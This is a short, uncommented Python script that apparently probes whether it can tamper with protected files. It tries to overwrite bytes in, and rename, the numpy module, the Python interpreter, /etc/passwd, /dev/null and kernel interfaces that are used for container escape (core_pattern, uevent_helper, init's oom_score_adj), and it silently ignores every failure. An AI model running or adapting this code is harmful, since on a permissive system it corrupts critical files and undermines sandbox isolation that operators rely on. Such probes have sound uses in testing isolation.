import mmap, os, sys
import numpy
for path in (numpy.__file__, sys.executable, "/etc/passwd", "/proc/sys/kernel/core_pattern", "/sys/kernel/uevent_helper", "/proc/1/oom_score_adj", "/dev/null"):
    for mode in ("r+b", "ab"):
        try:
            with open(path, mode) as file:
                file.write(b"")
                mmap.mmap(file.fileno(), 1)[0] = 1
        except (OSError, ValueError):
            pass
    try:
        os.rename(path, path + ".old")
    except OSError:
        pass
